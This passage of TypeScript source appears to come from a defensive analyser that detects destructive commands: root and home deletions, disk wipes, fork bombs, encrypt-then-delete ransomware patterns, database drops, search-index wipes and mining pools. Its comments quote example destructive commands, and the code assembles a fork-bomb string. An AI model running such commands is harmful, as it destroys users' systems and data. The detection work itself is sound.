import { ruleAnalyzer, hasArg, hasShortFlag, nestedUnder, operands, type AnalysisInput, type Rule } from '../rule.js';
import type { SimpleCommand } from '../shell/types.js';
import { nameWords } from '../tool-shape.js';
import { fundsGivenAway, handoverWrittenIntoDeploy } from '../knowledge/chain-commands.js';
import { hasGlob } from '../knowledge/glob.js';
import { percentDecoded } from '../shell/decoders.js';
import { atCwd, baseName } from '../shell/names.js';
import { cloudLaunch, optionValue } from '../shell/command-args.js';
import { canonicalPath, classifyPath, containerLog, HOME_IN_CODE, inTemp, isStagingPath, SERVICE_DATA_DIRS } from '../knowledge/paths.js';
import { classifyHost, destinationOf } from '../knowledge/hosts.js';
import { manifests, putIn, removedFiles, writes, writtenOrRun } from './persistence.js';
import { premiumCallPlaced, premiumDialplan } from '../knowledge/telephony.js';
import { isInterpreter } from './command_and_control.js';
import { upstream } from './exfiltration.js';
import { destroysNothing } from './tool_call.js';
import { MINERS } from '../knowledge/programs.js';
import { clientQueries, driverQueries, isSqlClient, THROWAWAY_DB } from '../knowledge/sql-clients.js';
import { sqlSpelled } from '../knowledge/sql-tokens.js';
import { windowsTechniques } from '../knowledge/windows.js';
import { directoryDestroyed } from '../knowledge/directory-config.js';
import { machinesDestroyed } from '../knowledge/hypervisor.js';
import { mailDestroyed } from '../knowledge/mail-server.js';
import { zonesDeleted } from '../knowledge/dns.js';
import { certificatesTakenAway } from '../knowledge/pki.js';
import { dataPlatformDestroyed } from '../knowledge/data-platform.js';
import { forgedMessage, offsetsMoved, streamDataDestroyed } from '../knowledge/streaming.js';
import { throwawayName } from '../knowledge/throwaway.js';
import { moneySentByCommand, paymentFileEdited, paymentXmlEdited } from '../knowledge/payroll-finance.js';
import { backupsDestroyed, backupsStopped, storageDeleted, storageLabelsWiped } from '../knowledge/backup-storage.js';
import { canInjected, equipmentScripted, equipmentWritten, firmwareErased, fleetDestroyed, homeOpened, opensHome, safetyOff, watchdogClosed } from '../knowledge/embedded.js';
import { signingKeyDestroyed } from '../knowledge/mobile-device.js';
import { cloakedRedirectWritten, hiddenLinksInjectedBy, siteDestroyed } from '../knowledge/web-apps.js';
import { repeated } from './credential.js';
import { CODE_IDIOMS, scriptsDoing } from '../knowledge/code-idioms.js';
import { zosDataDestroyed, zosSystemStopped } from '../knowledge/mainframe.js';
import { PRIVATE_CLOUD_TOOLS, privateCloudDestroyed } from '../knowledge/private-cloud.js';
import { COLLAB_APP_TOOLS, collabDestroyed } from '../knowledge/collab-apps.js';

/** A namespace named for production (`prod`, `production`, `payments-prod`, `prod-eu`). */
const PRODUCTION_NAMESPACE = /^(?:[a-z0-9-]{0,40}-)?prod(?:uction)?(?:-[a-z0-9-]{0,40})?$/;

/** Where a `find … -delete` reaches every user's files, or the whole disk. */
const FIND_WIDE_ROOTS = new Set(['/', '~', '/home', '/Users', '/root', '/srv', '/var', '/opt', '/mnt', '/media']);
/** Deleting any of these (or everything in them) destroys the system or the user's whole home. */
const ROOTS = new Set(['/', '/*', '~', '~/*', '~/.*', '/home', '/home/*', '/Users', '/Users/*', '/root', '/etc', '/usr', '/var', '/boot', '/bin', '/sbin', '/lib', '/lib64', '/opt', '/srv', '/System', '/Library', '/Applications', '/private', '/mnt', '/media', '/dev', '/proc', '/sys', '/usr/*', '/etc/*', '/var/*', '/boot/*', '/usr/bin', '/usr/lib', '/usr/local', '/var/lib', '/Volumes/*', '/var/www', '/var/www/*']);
/** Top-level home directories whose loss is real damage (keys, documents, every project). */
const VALUABLE_HOME = new Set(['.ssh', '.gnupg', '.aws', '.kube', '.config', '.password-store', 'Documents', 'Desktop', 'Pictures', 'Photos', 'Movies', 'Music', 'Library', 'projects', 'Projects', 'code', 'Code', 'src', 'dev', 'work', 'workspace', 'repos', 'git', 'Dropbox', 'OneDrive', 'go', '.local']);
/**
 * Stores whose parts are deleted one by one in ordinary work, a machine's disk image or a leaver's mailbox by name:
 * only the whole store, a mail domain, or a glob over them is destruction.
 */
const WHOLE_STORES = /^\/var\/vmail(?:\/[^/*]+)?(?:\/\*?)?$|^\/var\/lib\/(?:libvirt\/images|vz\/(?:images|dump))(?:\/\*?)?$|^\/var\/lib\/(?:libvirt\/images|vz\/(?:images|dump))\/[^/]*\*|^\/vmfs\/volumes\/[^/]+\/(?:\*|[^/]*\*\.vmdk)/;
const DB_FILE = /\.(db|sqlite|sqlite3|duckdb|mdb|ibd|frm|wt)$/;
const DB_CLIENTS = new Set(['psql', 'mysql', 'mariadb', 'mongo', 'mongosh', 'redis-cli', 'sqlcmd', 'clickhouse-client', 'cqlsh', 'sqlite3', 'cockroach', 'valkey-cli', 'snowsql', 'bq', 'trino']);
const MINING_POOL = /(^|\.)(minexmr|supportxmr|nanopool|2miners|hashvault|f2pool|nicehash|moneroocean|herominers|unmineable|ethermine|c3pool|xmrpool|minergate|viabtc|antpool|poolin|kryptex|zergpool|woolypooly|hiveon|flexpool)\./i;

/** What an rm/find/shred call would wipe among ROOTS, taking a preceding `cd /` or `cd ~` into account. */
function rootTargets(c: SimpleCommand, cwd: string | undefined): string[] {
  return operands(c).map((p) => {
    const cp = canonicalPath(p);
    if (cwd && p === '.') return cwd;
    if (cwd && (p === '*' || p === './*' || p === '.*')) return cwd === '/' ? '/*' : `${cwd}/*`;
    // `cd / && rm -rf etc`
    if (cwd && /^[\w.-]/.test(p) && !p.startsWith('.')) return canonicalPath(`${cwd === '/' ? '' : cwd}/${p}`);
    return cp;
  // `.` in a directory not known is '' here, not the root
  }).filter((p) => ROOTS.has(p) || (p !== '' && ROOTS.has(p.replace(/\/$/, '') || '/')));
}
/** find predicates that narrow a deletion to some files; `-type f` alone still means every file. */
const NARROWING_PREDICATES = new Set(['-name', '-iname', '-path', '-regex', '-newer', '-mtime', '-mmin', '-empty', '-user']);
/**
 * A find that picks some files, not all: by name, owner, emptiness or age; an age of `-N` (changed within the last N
 * days or minutes: `-mtime -400`) keeps the recent ones in, which in a backup folder is every backup that counts.
 */
const narrows = (c: SimpleCommand) => c.argv.some((w, k) => NARROWING_PREDICATES.has(w) && !((w === '-mtime' || w === '-mmin') && (c.argv[k + 1] ?? '').startsWith('-')));
const recursive = (c: SimpleCommand) => hasShortFlag(c, 'r') || hasShortFlag(c, 'R') || hasArg(c, '--recursive');

function destruction(i: AnalysisInput): string[] {
  const out: string[] = [];
  const cmds = i.view?.commands ?? [];
  cmds.forEach((c) => {
    if (['rm', 'srm', 'shred'].includes(c.name) && (recursive(c) || c.name !== 'rm') && (rootTargets(c, c.cwd === undefined ? undefined : canonicalPath(c.cwd)).length || hasArg(c, '--no-preserve-root'))) out.push(c.argv.join(' '));
    // (a root emptied by syncing an empty folder over it: `rsync -a --delete /tmp/empty/ /var/www/`)
    if (emptiedBySync(c).some((p) => ROOTS.has(canonicalPath(p).replace(/(?<=.)\/+$/, '')))) out.push(c.argv.join(' '));
    if (c.name === 'find' && (hasArg(c, '-delete') || c.argv.some((w, n) => (w === '-exec' || w === '-execdir') && ['rm', 'shred'].includes(c.argv[n + 1] ?? ''))) && rootTargets(c, undefined).length && !narrows(c)) out.push(c.argv.join(' '));
  });
  for (const s of i.view?.scripts ?? []) {
    const code = s.code.slice(0, 4000);
    // the home directory itself, not a folder joined under it (`homedir() + '/.cache/x'`, `"$ENV{HOME}/.cache"`)
    const joined = HOME_SUBPATH.test(code);
    const home = HOME_IN_CODE.test(code) && !joined;
    if (RECURSIVE_DELETE.test(code) && (home || s.strings.some((x) => ROOTS.has(canonicalPath(x)) && !(joined && x === '~')))) out.push(`${s.lang}: ${code.slice(0, 120)}`);
  }
  return out;
}

/** Library calls that delete a whole tree: `shutil.rmtree`, `fs.rmSync(…, {recursive})`, `FileUtils.rm_rf`, `File::Path` `remove_tree`. */
const RECURSIVE_DELETE = /rmtree|rmSync|rm_rf|rm_r\b|rimraf|remove_dir_all|remove_tree|unlink_recursive|File::Path/;

/** The home directory joined to a path under it: `expanduser("~") + "/.cache"`, `getenv("HOME")."/x"`, `"$ENV{HOME}/x"`. */
const HOME_SUBPATH = new RegExp(`(?:${HOME_IN_CODE.source})\\s*(?:[+.]\\s*['"])?/[\\w.-]`);

/** An inline script that deletes a valuable home folder whole: `shutil.rmtree(os.path.expanduser("~/.ssh"))`. */
function scriptDeletesHomeFolder(i: AnalysisInput): string[] {
  return (i.view?.scripts ?? []).filter((s) => {
    const code = s.code.slice(0, 4000);
    if (!RECURSIVE_DELETE.test(code)) return false;
    const homed = HOME_IN_CODE.test(code);
    return s.strings.slice(0, 64).some((x) => {
      const p = canonicalPath(x);
      const name = p.startsWith('~/') ? p.slice(2) : homed && p.startsWith('/') ? p.slice(1) : undefined;
      return name !== undefined && VALUABLE_HOME.has(name.replace(/\/$/, ''));
    });
  }).map((s) => `${s.lang}: ${s.code.slice(0, 120)}`);
}

/** Empty folders every system has, synced over a folder to empty it (`rsync -a --delete /var/empty/ /var/lib/mysql/`). */
const EMPTY_DIRS = new Set(['/var/empty', '/var/empty/', '/usr/share/empty', '/usr/share/empty/', '/var/lib/empty', '/var/lib/empty/']);
/** The folder an rsync with --delete empties: its destination, when the source is an empty folder (one every system has, or one named so: `mkdir /tmp/empty`). */
function emptiedBySync(c: SimpleCommand, line: readonly SimpleCommand[] = []): string[] {
  if (c.name !== 'rsync' || !c.argv.some((w) => w.startsWith('--delete'))) return [];
  const ops = operands(c);
  return ops.length === 2 && emptySource(ops[0]!, line) ? [ops[1]!] : [];
}
/** A folder a sync copies nothing from: the system's empty folders, one named empty, or one the same line makes. */
const emptySource = (src: string, line: readonly SimpleCommand[]) => EMPTY_DIRS.has(src) || /(?:^|\/)empty(?:[-_]?dir)?\/?$/.test(src) || line.some((x) => x.name === 'mkdir' && operands(x).includes(src));

/**
 * What rclone empties on a remote, as a path from the remote's root (`b2:acme-backups/worlds` → `/acme-backups/worlds`):
 * `purge`, a `delete` with no age or file filter, a `sync` from a folder that is empty or made by the same line.
 */
function rcloneWiped(c: SimpleCommand, line: readonly SimpleCommand[]): string[] {
  const [verb, ...ops] = operands(c);
  const remote = (w: string | undefined) => (w !== undefined && /^[\w.-]{1,64}:/.test(w) ? `/${w.slice(w.indexOf(':') + 1).replace(/^\/+/, '')}` : undefined);
  const filtered = c.argv.some((w) => /^--(?:min-age|max-age|include|exclude|filter|files-from)/.test(w));
  let dest: string | undefined;
  if (verb === 'purge' || (verb === 'delete' && !filtered)) dest = remote(ops[0]);
  else if (verb === 'sync' && ops.length === 2) {
    dest = emptySource(ops[0]!, line) && !filtered ? remote(ops[1]) : undefined;
  }
  return dest === undefined ? [] : [dest];
}

/** A find that deletes what it finds: `-delete`, or an `-exec` of a remover. */
const findDeletes = (c: SimpleCommand) => hasArg(c, '-delete') || c.argv.some((w, n) => (w === '-exec' || w === '-execdir') && REMOVERS.has(baseName(c.argv[n + 1] ?? '')));
/** A find that deletes every archive of a backups folder, narrowed by name alone (an age would keep the recent ones). */
const backupArchivesDeleted = (c: SimpleCommand) =>
  c.name === 'find' && findDeletes(c) && !c.argv.some((w) => (NARROWING_PREDICATES.has(w) && w !== '-name' && w !== '-iname') || /^-(?:[ac](?:time|min)|newer\w+)$/.test(w)) && operands(c).some((p) => !p.startsWith('-') && storeKind(p) === 'backups');

const blockDevice = (p: string) => classifyPath(p)?.role === 'device';
/** A disk image file as distributions ship them, compressed or not. */
const INSTALL_IMAGE = /\.(?:iso|img|raw)(?:\.(?:xz|gz|zst))?$/i;
/** The device a machine usually boots from: the first SATA, NVMe, virtio or Xen disk, or macOS's disk0. */
const FIRST_DISK = /^\/dev\/(?:sda|nvme0n1|vda|xvda|hda|r?disk0)(?:p?\d{1,2}|s\d{1,2})?$/;
function diskWipe(c: SimpleCommand): string | undefined {
  const a = c.argv;
  // an installer image written to a second disk is how a bootable USB stick or SD card is made; the machine's
  // own first disk, or a device filled with zeros or noise, is wiped
  if (c.name === 'dd') {
    const image = INSTALL_IMAGE.test(a.find((w) => w.startsWith('if='))?.slice(3) ?? '');
    return a.some((w) => w.startsWith('of=') && blockDevice(w.slice(3)) && !(image && !FIRST_DISK.test(w.slice(3)))) ? a.join(' ') : undefined;
  }
  if (c.name.startsWith('mkfs') || ['wipefs', 'blkdiscard', 'shred', 'mke2fs', 'mkswap', 'badblocks', 'hdparm', 'nvme', 'cryptsetup'].includes(c.name)) {
    if (c.name === 'badblocks' && !hasShortFlag(c, 'w')) return undefined;
    // without --all or --offset, wipefs only lists the signatures it finds
    if (c.name === 'wipefs' && !hasShortFlag(c, 'a') && !hasShortFlag(c, 'o') && !c.argv.some((w) => w === '--all' || w.startsWith('--offset'))) return undefined;
    if (c.name === 'hdparm' && !a.some((w) => w.startsWith('--security-erase') || w === '--trim-sector-ranges')) return undefined;
    if (c.name === 'nvme' && !hasArg(c, 'format', 'sanitize')) return undefined;
    if (c.name === 'cryptsetup' && !hasArg(c, 'luksFormat', 'erase', 'luksErase')) return undefined;
    return operands(c).some(blockDevice) ? a.join(' ') : undefined;
  }
  // a volume group or physical volume removed by force: every logical volume on it, and its data, goes
  if (c.name === 'vgremove' || c.name === 'pvremove') return (hasArg(c, '-f', '--force', '-ff') || hasShortFlag(c, 'f')) && operands(c).length > 0 ? a.join(' ') : undefined;
  if (c.name === 'sgdisk' || c.name === 'gdisk') return hasArg(c, '--zap-all', '-Z', '-o', '--clear') && operands(c).some(blockDevice) ? a.join(' ') : undefined;
  if (c.name === 'parted' || c.name === 'sfdisk' || c.name === 'fdisk') return (hasArg(c, 'mklabel', '--delete', 'rm') || (c.name === 'sfdisk' && c.stdin !== undefined)) && a.some(blockDevice) ? a.join(' ') : undefined;
  if (c.name === 'diskutil') return hasArg(c, 'eraseDisk', 'zeroDisk', 'secureErase', 'randomDisk', 'eraseVolume', 'partitionDisk', 'reformat', 'deleteContainer', 'deleteVolume', 'eraseContainer') ? a.join(' ') : undefined;
  const labels = storageLabelsWiped(c, blockDevice);
  if (labels) return labels;
  const r = c.redirects.find((x) => (x.op === '>' || x.op === '>|' || x.op === '&>') && blockDevice(x.target));
  return r ? `${a.join(' ')} > ${r.target}` : undefined;
}

function forkBomb(i: AnalysisInput): string | undefined {
  const cmds = i.view?.commands ?? [];
  for (const f of i.view?.functions ?? []) if (cmds.some((c) => c.name === f && c.pipeTo?.name === f)) return `${f}() { ${f} | ${f} & }`;
  for (const s of i.view?.scripts ?? []) {
    const code = s.code.slice(0, 2000);
    // `os.fork()` in a loop, or Perl's bare `fork while fork`
    if (/\bfork\b/.test(code) && /while|for |iter\(|loop|until/.test(code)) return `${s.lang}: ${code.slice(0, 100)}`;
  }
  return undefined;
}

/** `DROP DATABASE`/`TRUNCATE`/FLUSHALL/dropDatabase() handed to a database CLI. */
const DESTRUCTIVE_QUERY = /\bdrop\s+(database|schema|table|keyspace)\b|\btruncate\s+(table\s+)?\w|\bdropDatabase\(|\.drop\(\)|\bdeleteMany\(\s*\{\s*\}\s*\)|^flushall$|^flushdb$|\bdelete\s+from\s+[\w.]+\s*;?\s*$/i;
/** Accounts whose lock shuts the owners out: root, the first administrator, the default users of cloud images. */
/** The account a command locks or expires: `passwd -l`, `usermod -L` or a login shell taken away, `chage -E 0`, `pwpolicy disableuser`. */
function lockedAccount(c: SimpleCommand): string | undefined {
  const noShell = c.name === 'usermod' && c.argv.some((w, k) => (c.argv[k - 1] === '-s' || c.argv[k - 1] === '--shell') && /\/(?:nologin|false)$/.test(w));
  const lock = (c.name === 'passwd' && hasArg(c, '-l', '--lock')) || (c.name === 'usermod' && (hasArg(c, '-L', '--lock') || noShell)) || (c.name === 'chage' && c.argv.some((w, k) => w === '-E' && c.argv[k + 1] === '0')) || (c.name === 'pwpolicy' && hasArg(c, 'disableuser'));
  if (!lock) return undefined;
  return c.name === 'pwpolicy' ? (c.argv[c.argv.indexOf('-u') + 1] ?? '') : (operands(c)[operands(c).length - 1] ?? '');
}
/** The files logins, sudo and mounting depend on: the account database, sudoers, fstab and the core PAM stack. */
const VITAL_FILE = /^\/etc\/(?:passwd|shadow|group|gshadow|sudoers|fstab|pam\.d\/(?:common-(?:auth|account|password|session)|system-auth|password-auth|sshd|sudo|login|su))$/;
const MAIN_ACCOUNTS = new Set(['root', 'admin', 'administrator', 'ubuntu', 'ec2-user', 'centos', 'debian', 'azureuser', 'opc', 'pi']);
/** The branches everyone builds on; a force push there rewrites history others have pulled. */
/** Branches others build and release from: the main line, production, and release branches (`release/2026.03`, `release-1.4`). */
const MAIN_BRANCH = /^(?:main|master|trunk|production|prod|stable|release\/[\w.\/-]{1,64}|release-\d[\w.-]{0,32})$/;
/** The tables, schemas and databases a query drops or truncates, by name. */
const droppedObjects = (query: string): string[] => [...query.slice(0, 4000).matchAll(/\b(?:drop\s+(?:table|database|schema|keyspace)|truncate)\s+(?:table\s+)?(?:if\s+exists\s+)?["'`]?([\w.-]{1,128})/gi)].map((m) => m[1]!);

/**
 * Self-hosted runners removed one after another, each id handed over by a loop or xargs (`gh api -X DELETE
 * /orgs/o/actions/runners/$id`), from a listing nothing narrows (`select(.status == "offline")`, a grep: the stale ones).
 */
const everyRunner = (c: SimpleCommand, i: AnalysisInput) => c.argv.some((w, k) => /\/actions\/runners\/(?:\$|\{\}$)/.test(w) && (c.dynamic[k] === true || c.wrappers.includes('xargs') || w.includes('$')))
  && !(i.view?.commands ?? []).some((x) => x.name === 'grep' || x.name === 'awk' || x.argv.some((w) => w.includes('select(')));

function dbDestruction(c: SimpleCommand): string | undefined {
  // `supabase db reset --linked` drops and recreates the linked project's database, not the local one
  if (c.name === 'supabase' && c.argv[1] === 'db' && c.argv[2] === 'reset' && c.argv.some((w) => w === '--linked' || w === '--db-url' || w.startsWith('--db-url='))) return c.argv.join(' ');
  if (c.name === 'dropdb') return droppedDatabase(c);
  if (c.name === 'curl' || c.name === 'http' || c.name === 'xh' || c.name === 'https') return searchIndexWipe(c);
  // a web platform's CLI runs SQL only through its query verb (`wp db query 'DROP TABLE wp_users'`): of its words, only that
  const verbOnly = !DB_CLIENTS.has(c.name);
  if (verbOnly && !isSqlClient(c.name)) return undefined;
  const queries = verbOnly ? clientQueries(c) : undefined;
  const sql = (w: string) => queries === undefined || queries.includes(w);
  // SQL as its server reads it: `DROP/**/DATABASE x`, `/*!50000DROP*/ DATABASE x`, `'DR' || 'OP DATABASE x'`
  const read = (text: string) => (isSqlClient(c.name) ? sqlSpelled(text.slice(0, 2000)) : text.slice(0, 2000));
  const at = c.argv.findIndex((w, k) => k > 0 && sql(w) && DESTRUCTIVE_QUERY.test(read(w)));
  const query = at > 0 ? read(c.argv[at]!) : c.stdin && sql(c.stdin) && DESTRUCTIVE_QUERY.test(read(c.stdin.trim())) ? read(c.stdin.trim()) : undefined;
  if (!query) return undefined;
  const hostArg = c.argv.find((w, k) => ['-h', '--host', '-H', '-S'].includes(c.argv[k - 1] ?? '') || /^(postgres(ql)?|mysql|mongodb(\+srv)?|redis|rediss):\/\//.test(w));
  // a URL names its host; a bare `-h` value is the host itself (`-h prod-db` is another machine)
  const host = hostArg ? (destinationOf(hostArg)?.kind ?? classifyHost(hostArg)) : undefined;
  const remote = host !== undefined && host !== 'loopback';
  const named = /\bdrop\s+(database|schema)\s+(if\s+exists\s+)?["'`]?([\w-]+)/i.exec(query.slice(0, 400))?.[3];
  // tables a SQL client empties or drops, read as the SQL rules read them: caches and scratch tables are no loss (a
  // database or schema is judged below, where another machine's counts whatever its name)
  if (!named && isSqlClient(c.name) && destroysNothing(query)) return undefined;
  // dropped and created again in the same statements, or in the client's next ones (`-c 'drop …' -c 'create …'`): a
  // database reset for a restore, not its loss
  if (named && recreates([query, ...c.argv.slice(at + 1, at + 9).map(read)].join(';\n').slice(0, 4000), named)) return undefined;
  // (of the query, only what it drops names a throwaway: `["admin","local"]` in a loop over every database does not)
  const namesIn = (w: string, k: number) => (k === at ? droppedObjects(query) : [w]);
  if (!remote && ((named && THROWAWAY_DB.test(named)) || (!named && c.argv.some((w, k) => !w.startsWith('-') && namesIn(w, k).some((n) => THROWAWAY_DB.test(n)))))) return undefined;
  // a local file is a developer's own database, unless it is named for production
  const fileClient = c.name === 'sqlite3' || c.name === 'duckdb';
  const productionFile = fileClient && c.argv.some((w) => /prod/i.test(baseName(w)) && DB_FILE.test(w));
  if (!remote && (c.name === 'redis-cli' || c.name === 'valkey-cli' || fileClient) && !named && !productionFile) return undefined;
  return c.argv.join(' ').slice(0, 200);
}

/**
 * Flyway's clean, which drops every object of the schemas it manages (`flyway clean`, Gradle's `flywayClean`, Maven's
 * `flyway:clean`), pointed at another machine's database that is not named as a throwaway one, or with the setting that
 * guards against it turned off.
 */
function flywayClean(c: SimpleCommand): string | undefined {
  const cleans = (c.name === 'flyway' && c.argv.includes('clean')) || ((c.name === 'gradle' || c.name === 'gradlew') && c.argv.includes('flywayClean')) || ((c.name === 'mvn' || c.name === 'mvnw') && c.argv.includes('flyway:clean'));
  if (!cleans) return undefined;
  const url = c.argv.map((w) => /^(?:-url|--url|-Dflyway\.url)=jdbc:(.{1,512})$/.exec(w)?.[1]).find((u) => u !== undefined);
  const d = url === undefined ? undefined : destinationOf(url);
  const remote = d !== undefined && d.kind !== 'loopback' && !THROWAWAY_DB.test(url!.slice(url!.lastIndexOf('/') + 1));
  const unguarded = c.argv.some((w) => /^(?:-|-D|--)?(?:flyway\.)?cleanDisabled=false$/.test(w));
  return remote || (url === undefined && unguarded) ? c.argv.join(' ').slice(0, 200) : undefined;
}

/**
 * An HTTP DELETE of every index of a search cluster (`/_all`, `/*`, `/logs-*,*`) or of its snapshots
 * (`/_snapshot/repo/*`), the way Elasticsearch and OpenSearch are emptied.
 */
function searchIndexWipe(c: SimpleCommand): string | undefined {
  const a = c.argv;
  const deletes = a.some((w, k) => w === '-XDELETE' || (w === 'DELETE' && (k === 1 || ['-X', '--request'].includes(a[k - 1] ?? ''))) || w === '--request=DELETE');
  if (!deletes) return undefined;
  for (const w of a.slice(1, 64)) {
    const raw = /^(?:https?:\/\/)?[\w.-]{1,253}(?::\d{1,5})?\/([^?#\s]{0,512})/.exec(w)?.[1];
    if (raw === undefined) continue;
    // (the server reads `%5Fall` as `_all`)
    const path = percentDecoded(raw);
    const first = path.split('/')[0]!;
    if (first === '_all' || first.split(',').some((x) => x === '*' || x === '_all') || (first === '_snapshot' && path.split('/').length >= 3)) return a.join(' ').slice(0, 200);
  }
  return undefined;
}

/** PostgreSQL's dropdb: a database on another machine, or one not named as a throwaway. */
function droppedDatabase(c: SimpleCommand): string | undefined {
  const valued = new Set(['-h', '--host', '-p', '--port', '-U', '--username', '--maintenance-db']);
  const name = c.argv.slice(1).filter((w, k) => !w.startsWith('-') && !valued.has(c.argv[k] ?? '')).at(-1);
  const host = optionValue(c.argv, ['-h', '--host']) ?? c.argv.find((w) => w.startsWith('--host='))?.slice(7);
  const remote = host !== undefined && classifyHost(host) !== 'loopback' && !host.startsWith('/');
  return name !== undefined && (remote || !THROWAWAY_DB.test(name)) ? c.argv.join(' ') : undefined;
}

/** `DROP DATABASE IF EXISTS x; CREATE DATABASE x`: the statements create the database they drop. */
function recreates(query: string, name: string): boolean {
  return /\bcreate\s+(?:database|schema)\s+(?:if\s+not\s+exists\s+)?["'`]?([\w-]+)/i.exec(query)?.[1]?.toLowerCase() === name.toLowerCase();
}

/** A stack named as throwaway in its -chdir, -var or -var-file, or its TF_WORKSPACE: `infra/previews`, `env/sandbox.tfvars`, `pr-482`. */
function throwawayStack(c: SimpleCommand, i: AnalysisInput): boolean {
  // (the stack's folder named by -chdir, or by a `cd` before it on the line: `cd infra/preview && terraform destroy`)
  const cmds = i.view?.commands ?? [];
  const cd = cmds.slice(0, Math.max(0, cmds.indexOf(c))).filter((x) => x.name === 'cd').at(-1);
  const named = [...c.argv.filter((w, k) => w.startsWith('-chdir=') || w.startsWith('-var-file=') || c.argv[k - 1] === '-var' || c.argv[k - 1] === '-var-file'), ...c.assignments.filter((x) => x.name === 'TF_WORKSPACE').map((x) => x.value), ...(cd ? [operands(cd)[0] ?? ''] : [])];
  return named.some((w) => /(?:^|[/=_.-])(?:previews?|sandbox|test|tmp|scratch|ephemeral|review|pr[-_]?(?:number=)?\d+)(?:$|[/._-])/i.test(w.slice(0, 512)));
}

/** App and project names that say they hold nothing of value: dev, test, staging, review and preview apps. */
const THROWAWAY_APP = /(?:^|[-_.])(?:dev|test|testing|staging|stage|sandbox|review|preview|pr-?\d+|demo|local|ci|e2e)(?:$|[-_.])/i;

/** The repository's list of branches or tags (the merged branches are a clean-up). */
const listsRefs = (p: SimpleCommand) => p.name === 'git' && (p.argv[1] === 'branch' || p.argv[1] === 'for-each-ref' || p.argv[1] === 'ls-remote' || (p.argv[1] === 'tag' && operands(p).length <= 1)) && !p.argv.includes('--merged');
/** A pipeline into `c` that starts from the repository's list of branches or tags. */
function listsBranches(c: SimpleCommand): boolean {
  let p = c.pipeFrom;
  for (let hop = 0; p && hop < 8; hop++, p = p.pipeFrom) if (p.name === 'git' && ['branch', 'for-each-ref', 'ls-remote', 'tag'].includes(p.argv[1] ?? '')) return listsRefs(p);
  return false;
}
const REMOVERS = new Set(['rm', 'shred', 'srm', 'unlink', 'wipe']);
const ENCRYPTORS = (c: SimpleCommand) => (c.name === 'openssl' && (hasArg(c, 'enc') || /^-?aes|^-?des|^-?chacha/.test(c.argv[1] ?? ''))) || (c.name === 'gpg' && hasArg(c, '-c', '--symmetric', '-e', '--encrypt')) || c.name === 'age' || c.name === 'ccrypt' || c.name === 'rage';
function ransomware(i: AnalysisInput): string | undefined {
  const cmds = i.view?.commands ?? [];
  const enc = cmds.find(ENCRYPTORS);
  if (!enc) return undefined;
  const deletes = cmds.some((c) => ['rm', 'shred', 'unlink', 'srm'].includes(c.name) || (c.name === 'find' && hasArg(c, '-delete')));
  const broad = cmds.some((c) => c.name === 'find' && operands(c).some((p) => { const cp = canonicalPath(p); return cp === '~' || cp.startsWith('~/') || cp === '/' || cp.startsWith('/home') || cp.startsWith('/Users') || cp === '/srv' || cp === '/var/www'; })) || enc.dynamic.some(Boolean) || cmds.some((c) => c.name === 'tar' && operands(c).some((p) => canonicalPath(p) === '~')) || enc.origin === 'exec-arg'
    // a glob over the user's documents or projects: `gpg -c ~/Documents/*.pdf`
    || operands(enc).map(canonicalPath).some((p) => p.includes('*') && p.startsWith('~/') && VALUABLE_HOME.has(p.slice(2).split('/')[0] ?? ''))
    // every file a glob names on a server's disk, encrypted and then deleted by the same glob (`gpg -e /srv/finance/*.xlsx &&
    // rm /srv/finance/*.xlsx`); a project's own secrets encrypted in place (`gpg -c secrets/*.env && rm secrets/*.env`) are not
    || operands(enc).some((p) => /[*?]/.test(p) && p.startsWith('/') && !inTemp(p) && cmds.some((c) => c !== enc && REMOVERS.has(c.name) && operands(c).includes(p)));
  return deletes && broad ? `${enc.argv.join(' ').slice(0, 120)} + delete originals` : undefined;
}

/** Folders named for backups, and for the data a server keeps (uploads, a warehouse, its git repositories). */
const BACKUP_FOLDER = /^(?:backups?|snapshots?|dumps?|\.snapshots|rsnapshot|pgbackrest|barman|bacula|bareos|amanda|veeam|urbackup|timeshift)$|^backups?[-_]|[-_]backups?$/i;
const DATA_FOLDER = /^(?:data|uploads?|media|storage|attachments|warehouse|datalake|git-data|repositories|datasets|userdata|shared|exports|archives?)$/i;
/** What is rebuilt or rotated, not kept: never a store, wherever it sits. */
const SCRATCH_FOLDER = /^(?:cache|caches|tmp|temp|build|dist|node_modules|releases|logs?|tests?|fixtures)$/i;
/** Where a server keeps what it stores; a home's folders are the user's (PX-IMPACT-002). */
const SERVER_ROOTS = new Set(['srv', 'data', 'var', 'mnt', 'media', 'Volumes', 'opt']);

/**
 * Whether a path is a store of backups or of a server's data: a backup folder at any depth, or on a server's
 * disk a data folder itself or everything in it (`/srv/app/uploads/*`, `/var/opt/gitlab/git-data`), or a
 * top-level folder of `/data`. A dated glob (`/var/backups/app/2024-01-*`) is retention, pruning some.
 */
function storeKind(path: string): 'backups' | 'data' | undefined {
  const p = canonicalPath(path);
  if (!(p.startsWith('/') || p.startsWith('~/')) || inTemp(p)) return undefined;
  const segs = p.split('/').filter((x) => x !== '' && x !== '~');
  const last = segs[segs.length - 1] ?? '';
  if (segs.some((x) => (x.startsWith('.') && x !== '.snapshots') || SCRATCH_FOLDER.test(x)) || (/[*?]/.test(last) && /\d/.test(last))) return undefined;
  if (segs.some((x) => BACKUP_FOLDER.test(x))) return 'backups';
  if (p.startsWith('~') || !SERVER_ROOTS.has(segs[0] ?? '')) return undefined;
  const folder = last === '*' ? segs[segs.length - 2] ?? '' : last;
  return (segs[0] === 'data' && segs.length <= 2) || DATA_FOLDER.test(folder) ? 'data' : undefined;
}

/**
 * A folder of a drive synced with a file service (`~/Library/CloudStorage/Box-Box/Client Matters/Hartwell`, `~/Acme
 * Team Dropbox/Projects/Harbor`, `~/OneDrive - Acme/Finance`): deleted here, the service deletes it for everyone it
 * is shared with. A file (a name with an extension), a hidden or scratch folder is not one.
 */
function syncedFolder(path: string): boolean {
  const p = canonicalPath(path);
  const rest = SYNC_ROOT.exec(p)?.[1];
  if (rest === undefined) return false;
  const segs = rest.split('/').filter((x) => x !== '');
  const last = segs[segs.length - 1] ?? '';
  return segs.length > 0 && !/\.\w{1,8}$/.test(last) && !/[*?]/.test(last) && !segs.some((x) => x.startsWith('.') || SCRATCH_FOLDER.test(x));
}
const SYNC_ROOT = /^~\/(?:Library\/CloudStorage\/[^/]{1,128}|Dropbox|[^/]{1,128} Dropbox|Dropbox \([^/]{1,128}\)|Google Drive|OneDrive|OneDrive - [^/]{1,128}|Box|Box Sync)\/(.{1,4096})$/;

/**
 * The paths a command wipes whole: rm's recursive or globbed operands, what shred overwrites, what an
 * unnarrowed `find` deletes (`-delete`, `-exec rm|shred`), what an rsync from an empty folder empties.
 */
